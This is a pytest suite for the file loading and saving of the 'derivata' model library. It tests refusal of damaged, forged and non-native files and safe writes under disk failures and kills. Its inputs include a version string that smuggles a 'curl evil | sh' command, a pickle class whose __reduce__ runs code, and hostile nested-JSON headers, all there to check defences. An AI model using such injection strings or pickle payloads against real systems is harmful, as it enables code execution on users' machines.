"""Cases 68, 73, 74 and 80-85 of the fault list: nothing saved is lost, nothing unsafe is loaded."""

import bz2
import errno
import gzip
import hashlib
import io
import json
import lzma
import os
import pickle
import subprocess
import sys
import tracemalloc
import zipfile
import zlib

import joblib
import numpy as np
import pytest
import safetensors.numpy
from hypothesis import given, settings
from hypothesis import strategies as st

from derivata import persistence
from derivata.errors import ModelFileError
from derivata.files import atomic
from derivata.files.model_file import MAX_HEADER_BYTES, read_state, write_state
from derivata.files.model_state import ModelState

OLD = ModelState("LinearRegressor", {"alpha": 1.0}, {"coef": np.arange(4.0)})
NEW = ModelState("LinearRegressor", {"alpha": 2.0}, {"coef": np.arange(400.0)})


@pytest.fixture
def path(tmp_path):
    write_state(tmp_path / "model.derivata", OLD)
    return tmp_path / "model.derivata"


def refusal(path):
    with pytest.raises(ModelFileError) as caught:
        read_state(path)
    message = str(caught.value)
    assert str(path) in message
    return message


# Damage (80): every bit, every length


@pytest.mark.parametrize("mask", [0x01, 0x20, 0x80, 0xFF])
def test_no_byte_of_a_model_file_can_change_unnoticed(path, mask):
    good = path.read_bytes()
    for at in range(len(good)):
        path.write_bytes(good[:at] + bytes([good[at] ^ mask]) + good[at + 1 :])
        refusal(path)


def test_a_model_file_cut_off_anywhere_is_refused(path):
    good = path.read_bytes()
    for length in range(len(good)):
        path.write_bytes(good[:length])
        refusal(path)
    path.write_bytes(good[:-1])
    assert f"is {len(good) - 1} bytes long and should be {len(good)}" in refusal(path)


def test_a_model_file_with_more_at_its_end_is_refused(path):
    path.write_bytes(path.read_bytes() + b"\x00")
    assert "is damaged" in refusal(path)


def test_damage_is_called_damage_and_has_a_cure(path):
    good = path.read_bytes()
    for at in (3, 8, 200, len(good) - 3):
        path.write_bytes(good[:at] + bytes([good[at] ^ 0xFF]) + good[at + 1 :])
        assert "is damaged: " in refusal(path)
        assert "Copy it again from where it was made, or save the model again." in refusal(path)


@settings(max_examples=300, deadline=None)
@given(data=st.data())
def test_a_file_changed_anyhow_is_refused_or_says_the_same(tmp_path_factory, data):
    path = tmp_path_factory.mktemp("changed") / "model.derivata"
    write_state(path, OLD)
    good = path.read_bytes()
    begin = data.draw(st.integers(0, len(good)))
    end = data.draw(st.integers(begin, len(good)))
    bad = good[:begin] + data.draw(st.binary(max_size=40)) + good[end:]
    path.write_bytes(bad)
    if bad == good:
        read_state(path)
    else:
        refusal(path)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=200), st.booleans())
def test_random_bytes_are_refused(tmp_path_factory, junk, with_length):
    path = tmp_path_factory.mktemp("junk") / "model.derivata"
    path.write_bytes((len(junk).to_bytes(8, "little") if with_length else b"") + junk)
    refusal(path)


# Lies (81, 83): every checksum and size is right, and what they vouch for is not


def sha256(data):
    return hashlib.sha256(data).hexdigest()


def compact(value):
    return json.dumps(value, sort_keys=True, separators=(",", ":"))


def forge(path, document=None, text=None, header=None, data=b"\x00" * 8):
    """Write a file whose checksums are right for whatever document it is given."""
    if text is None:
        text = compact(document)
    offset, table = 0, {}
    if header is None:
        for name, entry in (document or {}).get("arrays", {}).items():
            table[name] = {
                "dtype": entry["dtype"],
                "shape": entry["shape"],
                "data_offsets": [offset, len(data)],
            }
        metadata = {"derivata": text, "sha256": sha256(text.encode())}
        header = json.dumps({"__metadata__": metadata, **table}, separators=(",", ":"))
    encoded = header.encode()
    encoded += b" " * (-len(encoded) % 8)
    path.write_bytes(len(encoded).to_bytes(8, "little") + encoded + data)


def honest(**changes):
    entry = {"dtype": "F64", "sha256": sha256(b"\x00" * 8), "shape": [1]}
    document = {
        "arrays": {"coef": entry | changes.pop("entry", {})},
        "derivata_version": "0.1.0",
        "format": "derivata",
        "format_version": 1,
        "kind": "LinearRegressor",
        "state": {},
    }
    return document | changes


def test_the_forger_of_these_tests_can_forge_a_file_that_loads(path):
    forge(path, honest())
    assert read_state(path).arrays["coef"].tolist() == [0.0]


@pytest.mark.parametrize(
    ("entry", "says"),
    [
        ({"dtype": "F16"}, "unknown type 'F16'"),
        ({"dtype": "object"}, "unknown type 'object'"),
        ({"shape": [2]}, "should be"),
        ({"shape": [2**61]}, "should be"),
        ({"shape": [10**400, 10**400]}, "should be"),
        ({"shape": [-1, -1]}, "impossible shape"),
        ({"shape": [True]}, "impossible shape"),
        ({"shape": [1.0]}, "impossible shape"),
        ({"shape": [[1]]}, "impossible shape"),
        ({"shape": [1] * 33}, "impossible shape"),
        ({"shape": "1"}, "entry of its array 'coef'"),
        ({"sha256": sha256(b"other")}, "checksum of its array 'coef' is wrong"),
        ({"sha256": None}, "entry of its array 'coef'"),
        ({"extra": 1}, "entry of its array 'coef'"),
    ],
)
def test_a_lie_about_an_array_is_refused(path, entry, says):
    document = honest(entry=entry)
    forge(path, document, header=None)
    if says == "should be":  # make the header agree with the lie
        end = 8 * int(np.prod([int(n) for n in entry["shape"]], dtype=object))
        lie = {"dtype": "F64", "shape": entry["shape"], "data_offsets": [0, end]}
        text = compact(document)
        metadata = {"derivata": text, "sha256": sha256(text.encode())}
        header = json.dumps({"__metadata__": metadata, "coef": lie}, separators=(",", ":"))
        forge(path, header=header)
    assert says in refusal(path)


def test_an_empty_array_of_impossible_size_is_refused(path):
    entry = {"shape": [0, 2**62, 2**62], "sha256": sha256(b"")}
    forge(path, honest(entry=entry), data=b"")
    assert "impossible shape" in refusal(path)


def test_a_bool_that_is_neither_true_nor_false_is_refused(path):
    data = b"\x00\x01\x02\x00\x01\x00\x00\x00"
    forge(path, honest(entry={"dtype": "BOOL", "shape": [8], "sha256": sha256(data)}), data=data)
    assert "other bytes than 0 and 1" in refusal(path)


@pytest.mark.parametrize("name", ["__metadata__", "", "a b", "../coef", "x" * 200, "\u202e"])
def test_an_array_of_an_impossible_name_is_refused(path, name):
    forge(path, text=compact(honest(arrays={name: honest()["arrays"]["coef"]})))
    assert "impossible name" in refusal(path)


def two_arrays(*offsets, names=("a", "b"), data=b"\x00" * 16):
    entry = {"dtype": "F64", "sha256": sha256(b"\x00" * 8), "shape": [1]}
    text = compact(honest(arrays={"a": entry, "b": entry}))
    items = [("__metadata__", {"derivata": text, "sha256": sha256(text.encode())})]
    for name, offset in zip(names, offsets, strict=True):
        items.append((name, {"dtype": "F64", "shape": [1], "data_offsets": offset}))
    pairs = (f"{compact(key)}:{json.dumps(item, separators=(',', ':'))}" for key, item in items)
    return {"header": "{" + ",".join(pairs) + "}", "data": data}


@pytest.mark.parametrize(
    "lie",
    [
        pytest.param(two_arrays([0, 8], [0, 8], data=b"\x00" * 8), id="overlap"),
        pytest.param(two_arrays([0, 8], [4, 12]), id="half overlap"),
        pytest.param(two_arrays([8, 16], [0, 8]), id="swapped"),
        pytest.param(two_arrays([0, 8], [16, 24], data=b"\x00" * 24), id="gap"),
        pytest.param(two_arrays([0, 8], [8, 2**63]), id="beyond the end"),
        pytest.param(two_arrays([0, 8], [-8, 0]), id="before the beginning"),
        pytest.param(two_arrays([0, 8], [8, 16], [8, 16], names="abb"), id="a name twice"),
        pytest.param(two_arrays([0, 8], names="a", data=b"\x00" * 8), id="one missing"),
        pytest.param(two_arrays([0, 8], [8, 16], [16, 24], names="abc"), id="one too many"),
    ],
)
def test_a_header_that_is_not_the_documents_is_refused(path, lie):
    forge(path, **two_arrays([0, 8], [8, 16]))
    read_state(path)
    forge(path, **lie)
    assert "list of arrays is not the one its document describes" in refusal(path)


@pytest.mark.parametrize(
    "document",
    [
        honest(extra=1),
        {key: value for key, value in honest().items() if key != "state"},
        honest(state=[]),
        honest(arrays=[]),
        honest(kind=3),
        honest(kind="os.system"),
        honest(format="other"),
        honest(format_version=0),
        honest(format_version=1.0),
        honest(format_version=True),
        honest(format_version="1"),
        [],
        "text",
        None,
    ],
)
def test_a_document_of_other_entries_is_refused(path, document):
    forge(path, text=compact(document))
    assert "is damaged: " in refusal(path)


@pytest.mark.parametrize(
    ("state", "says"),
    [
        ('{"a":NaN}', "NaN"),
        ('{"a":-Infinity}', "as derivata writes it"),
        ('{"a":1e999}', "as derivata writes it"),
        ('{"a":1,"a":2}', "a key twice"),
        ('{"b":1,"a":2}', "as derivata writes it"),
        ('{ "a":1}', "as derivata writes it"),
        ('{"a":1.50}', "as derivata writes it"),
        ('{"a":' + "[" * 63 + "]" * 63 + "}", "nested 65 deep; at most 64"),
        ('{"a":' + "[" * 10**6 + "]" * 10**6 + "}", "nested 1000002 deep"),
        ('{"a":' + "[" * 10**6, "nested 1000002 deep"),
        ('{"a":' + '{"a":' * 10**5 + "1" + "}" * 10**5 + "}", "nested 100002 deep"),
        ('{"a":' + "9" * 5000 + "}", "is not JSON"),
        ('{"a":' + "9" * 1000 + "}", "never writes"),
        ('{"a":1', "is not JSON"),
        ('{"a":"\\', "is not JSON"),
    ],
)
def test_json_that_is_deep_or_huge_or_not_ours_is_refused(path, state, says):
    template = compact(honest(state="HERE", arrays={}))
    forge(path, text=template.replace('"HERE"', state), data=b"")
    assert says in refusal(path)


@pytest.mark.parametrize(
    ("header", "says"),
    [
        ("[" * 10**6, "is not JSON"),
        ('{"a":' * 10**5, "nested 100000 deep"),
        ('{"' + '\\"' * (MAX_HEADER_BYTES // 2 - 64), "is not JSON"),
        ('{"' + '"' * (MAX_HEADER_BYTES - 64), "is not JSON"),
        ('{"' + "\\" * (MAX_HEADER_BYTES - 65), "is not JSON"),
        ('{"a":{}}', "no derivata document"),
        ('{"__metadata__":{}}', "no derivata document"),
        ('{"__metadata__":{"derivata":{}}}', "no derivata document"),
        ('{"__metadata__":[]}', "no derivata document"),
        ('{"__metadata__":{"derivata":"{}"}}', "checksum of its document"),
    ],
)
def test_a_hostile_header_is_refused_in_moments(path, header, says):
    forge(path, header=header if header.startswith("{") else '{"a":' + header)
    assert says in refusal(path)


@pytest.mark.parametrize("length", [2**63, 2**64 - 1, MAX_HEADER_BYTES + 8, 10**6])
def test_a_header_longer_than_the_file_or_the_limit_is_refused(path, length):
    good = path.read_bytes()
    path.write_bytes(length.to_bytes(8, "little") + good[8:])
    assert f"its header claims {length:,} bytes" in refusal(path)


def test_a_header_over_the_limit_is_not_read(path):
    with open(path, "wb") as file:
        file.write((MAX_HEADER_BYTES + 8).to_bytes(8, "little") + b'{"__metadata__":')
        file.truncate(MAX_HEADER_BYTES + 16)
    tracemalloc.start()
    refusal(path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 2**20


def test_no_memory_is_taken_for_what_a_lie_promises(path):
    entry = {"dtype": "F64", "sha256": sha256(b""), "shape": [2**40]}
    text = compact(honest(arrays={"coef": entry}))
    table = {"dtype": "F64", "shape": [2**40], "data_offsets": [0, 2**43]}
    metadata = {"derivata": text, "sha256": sha256(text.encode())}
    header = json.dumps({"__metadata__": metadata, "coef": table}, separators=(",", ":"))
    forge(path, header=header)
    tracemalloc.start()
    assert "bytes long and should be" in refusal(path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 2**20


# Newer formats (84)


def test_a_newer_format_says_what_to_install(path):
    forge(path, honest(format_version=2, derivata_version="0.9.1", new_entry="of the future"))
    message = refusal(path)
    assert "has format 2, written by derivata 0.9.1" in message
    assert "pip install --upgrade 'derivata>=0.9.1'" in message


@pytest.mark.parametrize("version", ["1'; curl evil | sh; '", "\x1b[31m", "9" * 99, "", None, 3])
def test_a_newer_format_puts_nothing_strange_into_the_command_to_paste(path, version):
    forge(path, honest(format_version=7, derivata_version=version))
    message = refusal(path)
    assert message.endswith("Install a newer one: pip install --upgrade derivata.")
    assert "curl" not in message and "\x1b" not in message


# Other files (82, 85)


class Bomb:
    """Unpickling this makes a file: proof that something was unpickled."""

    def __init__(self, trace):
        self.trace = trace

    def __reduce__(self):
        return open, (str(self.trace), "w")


@pytest.mark.parametrize("protocol", range(6))
def test_a_pickle_is_refused_by_name_and_never_run(tmp_path, protocol):
    bomb = pickle.dumps(Bomb(tmp_path / "trace"), protocol=protocol)
    (tmp_path / "model.derivata").write_bytes(bomb)
    with pytest.raises(ModelFileError) as caught:
        persistence.load(tmp_path / "model.derivata")
    # Protocols 0 and 1 have no first bytes of their own, and are refused like any other file.
    assert protocol < 2 or "a Python pickle" in str(caught.value)
    assert "derivata never unpickles" in str(caught.value)
    assert not (tmp_path / "trace").exists()
    pickle.loads(bomb).close()  # the bomb is real
    assert (tmp_path / "trace").exists()


def joblib_bytes(compress):
    file = io.BytesIO()
    joblib.dump({"coef": np.arange(100.0)}, file, compress=compress)
    return file.getvalue()


def zip_bomb():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("coef.npy", b"\x00" * 10**7)
    return file.getvalue()


def npz_bytes():
    file = io.BytesIO()
    np.savez(file, coef=np.arange(3.0))
    return file.getvalue()


def npy_bytes():
    file = io.BytesIO()
    np.save(file, np.arange(3.0))
    return file.getvalue()


@pytest.mark.parametrize(
    ("content", "looks_like"),
    [
        (joblib_bytes(0), "a Python pickle (joblib writes these too)"),
        (joblib_bytes(("zlib", 3)), "a zlib file, perhaps a compressed joblib pickle"),
        (joblib_bytes(("gzip", 3)), "a gzip file"),
        (joblib_bytes(("bz2", 3)), "a bzip2 file"),
        (joblib_bytes(("xz", 3)), "an xz file"),
        (zip_bomb(), "a zip archive"),
        (npz_bytes(), "a zip archive (.npz"),
        (npy_bytes(), "a NumPy .npy array"),
        (gzip.compress(b"\x00" * 10**7), "a gzip file"),
        (bz2.compress(b"\x00" * 10**6), "a bzip2 file"),
        (lzma.compress(b"\x00" * 10**6), "an xz file"),
        (zlib.compress(b"\x00" * 10**6), "a zlib file"),
        (b"", "an empty file"),
        (b"price,rooms\r\n1,2\r\n", "a text file"),
        ("größe,höhe\n".encode() * 100, "a text file"),
        (b'{"alpha": 1.0}\n', "a JSON text"),
        (b"\xef\xbb\xbf[1, 2]", "a JSON text"),
        (b"<!DOCTYPE html><html>", "an HTML or XML text"),
        (b"PAR1" + bytes(100), "a Parquet table"),
        (b"\x89PNG\r\n\x1a\n" + bytes(100), "a PNG image"),
        (b"\x89HDF\r\n\x1a\n" + bytes(100), "an HDF5 file"),
        (bytes(100), "no kind of file that derivata knows"),
        (b"\xff" * 100, "no kind of file that derivata knows"),
        (b"\x00", "no kind of file that derivata knows"),
    ],
)
def test_another_file_is_refused_with_what_it_looks_like(path, content, looks_like):
    path.write_bytes(content)
    message = refusal(path)
    assert looks_like in message
    assert "derivata never unpickles and loads only its own files" in message


def test_a_safetensors_file_of_another_program_is_named(path):
    safetensors.numpy.save_file({"weight": np.zeros(3)}, path, {"format": "pt"})
    assert "is a safetensors file, but not a model that derivata saved" in refusal(path)
    safetensors.numpy.save_file({"größe": np.zeros(3)}, path)
    assert "is a safetensors file, but not a model that derivata saved" in refusal(path)


def test_a_folder_is_refused_and_the_model_in_it_named(path):
    assert f"no model file but a folder. Give {str(path)!r}." in refusal(path.parent)
    path.unlink()
    assert "Give the path of a model file in it." in refusal(path.parent)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes with names here")
def test_a_pipe_or_a_device_is_refused_without_waiting_for_it(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    assert "no model file but a device, a pipe or a socket" in refusal(tmp_path / "pipe")
    assert "no model file but a device, a pipe or a socket" in refusal(os.devnull)


def test_a_missing_file_is_refused_with_an_example(tmp_path):
    (tmp_path / "dangling").symlink_to("nowhere")
    for name in ("missing", "dangling"):
        message = refusal(tmp_path / name)
        assert "No such file" in message and "such as 'run/model.derivata'" in message


def test_a_kind_that_is_not_in_the_table_is_never_imported(tmp_path):
    write_state(tmp_path / "m", ModelState("ForestRegressor", {}, {}))
    with pytest.raises(ModelFileError, match="holds a 'ForestRegressor', which this derivata does"):
        persistence.load(tmp_path / "m")


@pytest.mark.parametrize("error", [KeyError("alpha"), ValueError("x"), TypeError("x")])
def test_entries_that_are_not_the_kinds_are_a_fault_of_the_file(tmp_path, monkeypatch, error):
    class LinearRegressor:
        @classmethod
        def from_state(cls, state):
            raise error

    module = type(sys)("derivata_stub")
    module.LinearRegressor = LinearRegressor
    monkeypatch.setitem(sys.modules, "derivata_stub", module)
    monkeypatch.setitem(persistence.KINDS, "LinearRegressor", "derivata_stub:LinearRegressor")
    write_state(tmp_path / "m", OLD)
    with pytest.raises(
        ModelFileError, match="does not hold the entries of a LinearRegressor"
    ) as got:
        persistence.load(tmp_path / "m")
    assert got.value.__cause__ is error


# Writes that fail (73, 74)


class Failing:
    """A file whose disk is full after some bytes."""

    def __init__(self, file, room, error):
        self.file, self.room, self.error = file, room, error

    def write(self, data):
        self.file.write(bytes(data)[: self.room])
        self.room -= len(data)
        if self.room < 0:
            raise self.error

    def __getattr__(self, name):
        return getattr(self.file, name)


def assert_write_fails_and_nothing_is_lost(path, says):
    before, entries = path.read_bytes(), sorted(path.parent.iterdir())
    with pytest.raises(ModelFileError) as caught:
        write_state(path, NEW)
    assert says in str(caught.value) and "No file was left half-written." in str(caught.value)
    assert isinstance(caught.value.__cause__, OSError)
    assert path.read_bytes() == before
    assert sorted(path.parent.iterdir()) == entries


@pytest.mark.parametrize("room", [0, 4, 8, 100, 600, 2000])
@pytest.mark.parametrize(
    ("number", "says"),
    [
        (errno.ENOSPC, "is full. Free some space"),
        (errno.EDQUOT, "is full. Free some space"),
        (errno.EIO, "the system said: Input/output error. Check the disk"),
    ],
)
def test_a_full_or_broken_disk_at_any_byte_leaves_the_old_model(
    path, monkeypatch, room, number, says
):
    fdopen = os.fdopen
    error = OSError(number, os.strerror(number))
    monkeypatch.setattr(os, "fdopen", lambda *args: Failing(fdopen(*args), room, error))
    assert_write_fails_and_nothing_is_lost(path, says)


@pytest.mark.parametrize("step", ["open", "chmod", "fsync", "replace"])
@pytest.mark.parametrize("number", [errno.ENOSPC, errno.EIO, errno.EROFS, errno.EACCES])
def test_an_error_at_any_step_leaves_the_old_model(path, monkeypatch, step, number):
    def fail(*args, **kwargs):
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr(os, step, fail)
    assert_write_fails_and_nothing_is_lost(path, "cannot write")


def test_a_folder_that_cannot_be_flushed_leaves_one_whole_model(path, monkeypatch):
    """The rename is done by then: it is the new one, and the error says that it may not last."""
    replace, fsync = os.replace, os.fsync

    def replace_then_break(*args):
        replace(*args)
        monkeypatch.setattr(os, "fsync", lambda descriptor: fail())

    def fail():
        raise OSError(errno.EIO, os.strerror(errno.EIO))

    monkeypatch.setattr(os, "replace", replace_then_break)
    with pytest.raises(ModelFileError, match="Input/output error"):
        write_state(path, NEW)
    monkeypatch.setattr(os, "fsync", fsync)
    assert read_state(path).state == NEW.state
    assert list(path.parent.iterdir()) == [path]


@pytest.mark.parametrize("number", sorted(atomic._CANNOT_FLUSH))
def test_a_file_system_that_cannot_flush_folders_is_no_error(path, monkeypatch, number):
    fsync = os.fsync

    def fsync_files_only(descriptor):
        if os.path.isdir(f"/proc/self/fd/{descriptor}"):
            raise OSError(number, os.strerror(number))
        fsync(descriptor)

    monkeypatch.setattr(os, "fsync", fsync_files_only)
    write_state(path, NEW)
    assert read_state(path).state == NEW.state


def test_ctrl_c_in_a_write_leaves_the_old_model(path, monkeypatch):
    fdopen, before = os.fdopen, path.read_bytes()
    monkeypatch.setattr(
        os, "fdopen", lambda *args: Failing(fdopen(*args), 100, KeyboardInterrupt())
    )
    with pytest.raises(KeyboardInterrupt):
        write_state(path, NEW)
    assert path.read_bytes() == before
    assert list(path.parent.iterdir()) == [path]


@pytest.mark.parametrize("number", [errno.EROFS, errno.EACCES, errno.EPERM])
def test_a_read_only_folder_is_named_with_the_cure(path, monkeypatch, number):
    def fail(*args, **kwargs):
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr(os, "open", fail)
    says = f"the folder {str(path.parent)!r} does not allow writing ({os.strerror(number)}). Choose"
    assert_write_fails_and_nothing_is_lost(path, says)


@pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may write into any folder"
)
def test_a_truly_read_only_folder_is_named_with_the_cure(path):
    path.parent.chmod(0o500)
    try:
        assert_write_fails_and_nothing_is_lost(path, "does not allow writing")
    finally:
        path.parent.chmod(0o700)


def test_a_missing_folder_a_file_as_folder_and_a_folder_as_file_are_told_apart(path):
    for target, says in [
        (path.parent / "missing" / "m", "does not exist. Create it first"),
        (path / "m", "is not a folder"),
        (path.parent, "is a folder. Give the path of a file in it"),
        (path.parent / ("x" * 250), "its name is too long"),
    ]:
        with pytest.raises(ModelFileError, match=says):
            write_state(target, NEW)
    assert read_state(path).state == OLD.state


# Kills (68): each in a process of its own, at each step of a write

LAB = """
import json, os, resource, signal, sys
import numpy as np
from pathlib import Path
from derivata.files import atomic
from derivata.files.model_file import read_state, write_state
from derivata.files.model_state import ModelState

folder = Path(sys.argv[1])
path = folder / "model.derivata"
states = {"old": ModelState("K", {"is": "old"}, {"coef": np.arange(4.0)}),
          "new": ModelState("K", {"is": "new"}, {"coef": np.arange(400.0), "b": np.ones(3, bool)})}
content = {}
for name, state in states.items():
    write_state(path, state)
    content[path.read_bytes()] = name
new_size = len(next(data for data, name in content.items() if name == "new"))

steps = 0  # counted in the child; it dies at the one it is told to
dies_at = None
def step():
    global steps
    steps += 1
    if steps == dies_at:
        os.kill(os.getpid(), signal.SIGKILL)

class Watched:
    def __init__(self, file):
        self.file = file
    def write(self, data):
        data = bytes(data)
        self.file.write(data[: len(data) // 2])
        self.file.flush()
        step()
        self.file.write(data[len(data) // 2 :])
        step()
    def flush(self):
        self.file.flush()
        step()
    def __getattr__(self, name):
        return getattr(self.file, name)

def watch():
    for name in ("open", "chmod", "fsync", "replace", "close"):
        def watched(*args, real=getattr(os, name), **kwargs):
            step()
            result = real(*args, **kwargs)
            step()
            return result
        setattr(os, name, watched)
    fdopen = os.fdopen
    os.fdopen = lambda *args: Watched(fdopen(*args))

def die(prepare):
    write_state(path, states["old"])
    child = os.fork()
    if child == 0:
        prepare()
        write_state(path, states["new"])
        os._exit(steps)
    status = os.waitpid(child, 0)[1]
    found = content.get(path.read_bytes(), "damaged")
    read_state(path)
    return status, found

def at_step(n):
    def prepare():
        global dies_at
        dies_at = n
        watch()
    return prepare

def at_byte(n):
    def prepare():
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
        signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
        resource.setrlimit(resource.RLIMIT_FSIZE, (n, n))
    return prepare

status, found = die(at_step(None))
total = os.waitstatus_to_exitcode(status)
assert found == "new" and total > 12, (found, total)
by_step = [die(at_step(n)) for n in range(1, total + 1)]
assert all(os.WTERMSIG(status) == signal.SIGKILL for status, _ in by_step)
by_byte = [die(at_byte(n)) for n in range(0, new_size, 37)]
assert all(os.WTERMSIG(status) == signal.SIGXFSZ for status, _ in by_byte)

# A limit without the signal is a write that the kernel fails half way.
resource.setrlimit(resource.RLIMIT_FSIZE, (100, resource.RLIM_INFINITY))
try:
    write_state(path, states["new"])
    refused = ""
except ValueError as error:
    refused = str(error)
resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))

litter = len(list(folder.iterdir())) - 1
atomic.LITTER_SECONDS = -1.0
write_state(path, states["old"])
print(json.dumps({"by_step": [found for _, found in by_step], "refused": refused,
                  "by_byte": [found for _, found in by_byte], "litter": litter,
                  "litter_after": len(list(folder.iterdir())) - 1}))
"""


@pytest.mark.skipif(not sys.platform.startswith(("linux", "darwin")), reason="needs fork")
def test_a_kill_at_any_step_or_byte_leaves_the_old_or_the_new_model_whole(tmp_path):
    lab = subprocess.run(
        [sys.executable, "-c", LAB, str(tmp_path)], capture_output=True, text=True, timeout=120
    )
    assert lab.returncode == 0, lab.stderr
    found = json.loads(lab.stdout)
    # Old up to the rename, new after it, never anything else.
    renamed = found["by_step"].index("new")
    assert found["by_step"] == ["old"] * renamed + ["new"] * (len(found["by_step"]) - renamed)
    assert 0 < renamed < len(found["by_step"]) - 1
    assert set(found["by_byte"]) == {"old"}
    assert "is larger than the system allows" in found["refused"]
    assert found["litter"] > 0 and found["litter_after"] == 0
